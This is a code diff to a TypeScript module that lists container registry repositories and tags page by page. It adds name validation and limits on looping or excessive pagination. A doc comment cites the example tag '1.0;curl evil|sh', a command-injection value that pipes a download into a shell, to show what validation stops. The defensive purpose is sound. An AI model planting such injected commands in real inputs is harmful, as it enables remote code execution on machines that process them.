@@ -1,7 +1,9 @@
 /**
  * Paged listings of the Distribution API (`_catalog`, `tags/list`): a page at a time, following
  * `Link` on the same origin only, stopping before a page link that repeats, each page read within
- * its byte limit.
+ * its byte limit. A registry's names are checked against the Distribution grammar (a tag such as
+ * `1.0;curl evil|sh` never reaches a command), and a registry that keeps linking to further pages
+ * that bring no new names, or to more pages than any registry has, gets its listing cut there.
  */
 import { scopesFor } from '../auth/scope';
 import { CoreError } from '../errors';
@@ -9,6 +11,7 @@ import { nextPageUrl, sameOrigin } from '../transport/link';
 import type { HttpResponse } from '../transport/http';
 import { readBodyLimited } from '../transport/read-body';
 import { requireRegistryUrl } from '../transport/url-policy';
+import { isRepositoryName, isTag } from '../name/reference';
 import { header } from './endpoint-client';
 import { registryErrorFor } from './registry-errors';
 import type { RequestRouter } from './router';
@@ -21,6 +24,12 @@ export interface ListOptions {
 
 /** The largest listing page read into memory (Distribution may send every tag in one page). */
 const MAX_PAGE_BYTES = 64 * 1024 * 1024;
+
+/** Pages read of one listing at most: 10 million names at 1000 a page, far past any registry. */
+export const MAX_LISTING_PAGES = 10_000;
+
+/** Pages in a row bringing no name not seen before after which a listing stops (an empty page now and then is no loop). */
+export const MAX_PAGES_WITHOUT_NEW_NAMES = 10;
 
 export interface Listing {
   /** Under the API root: `/_catalog`, `/team/app/tags/list`. */
@@ -38,6 +47,10 @@ export interface Listing {
 export interface ListingPage {
   names: string[];
   more: boolean;
+  /** Entries of this page left out because they are not valid names (see isTag, isRepositoryName). */
+  leftOut?: number;
+  /** On the last page of a listing stopped before its end (`more` is then false): why, in a sentence. */
+  cut?: string;
 }
 
 /** A listing's entries, a page at a time. */
@@ -52,6 +65,10 @@ export async function* listingPages(router: RequestRouter, listing: Listing, opt
   const endpoint = await router.first('list', repository);
   let url: URL | undefined = endpoint.url(path, { n: String(pageSize) });
   const seen = new Set<string>();
+  const valid = field === 'tags' ? isTag : isRepositoryName;
+  const namesSeen = new Set<string>();
+  let pages = 0;
+  let pagesWithoutNewNames = 0;
   const loop = () =>
     new CoreError('PAGINATION_LOOP', `${router.host} sent the same page link twice while listing ${what}; the listing stops here.`);
   while (url) {
@@ -93,7 +110,22 @@ export async function* listingPages(router: RequestRouter, listing: Listing, opt
       );
     }
     url = checked;
-    yield { names: (entries ?? []).filter((e): e is string => typeof e === 'string'), more: url !== undefined };
+    const strings = (entries ?? []).filter((e): e is string => typeof e === 'string');
+    const names = strings.filter(valid);
+    const leftOut = strings.length - names.length;
+    const fresh = names.filter((name) => !namesSeen.has(name));
+    for (const name of fresh) namesSeen.add(name);
+    pages++;
+    pagesWithoutNewNames = fresh.length > 0 ? 0 : pagesWithoutNewNames + 1;
+    const cut = !url
+      ? undefined
+      : pagesWithoutNewNames >= MAX_PAGES_WITHOUT_NEW_NAMES
+        ? `${router.host} kept pointing at further pages of ${what} that brought no new names; the listing stops after ${MAX_PAGES_WITHOUT_NEW_NAMES} such pages in a row and may be incomplete.`
+        : pages >= MAX_LISTING_PAGES
+          ? `${router.host} pointed at more than ${MAX_LISTING_PAGES} pages of ${what}; the listing stops there and may be incomplete.`
+          : undefined;
+    yield { names, more: url !== undefined && !cut, ...(leftOut > 0 ? { leftOut } : {}), ...(cut ? { cut } : {}) };
+    if (cut) return;
   }
 }
 
